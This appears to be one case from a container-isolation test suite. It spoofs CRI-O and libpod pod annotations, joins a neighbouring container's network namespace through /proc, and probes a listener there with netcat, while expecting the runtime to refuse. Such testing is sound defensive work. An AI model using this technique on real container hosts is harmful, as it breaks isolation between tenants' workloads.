"""A container calls itself a member of another container's pod, whose namespaces it may then join."""

from bypass import refused, world

SOURCE = "idea"
WAY = "create"
STOPPED = refused("namespace-network")


def attack(t):
    other = t.neighbour()
    t.holder(0, lambda: (world.join(other.pid, "net"), world.loopback_up(), t.speak(("127.0.0.1", 4242))))
    t.annotation("io.container.manager", "libpod")
    t.annotation("io.kubernetes.cri-o.SandboxID", other.id)
    t.join("network", "/proc/%d/ns/net" % other.pid)
    return t.leaked(t.run("nc 127.0.0.1 4242"))
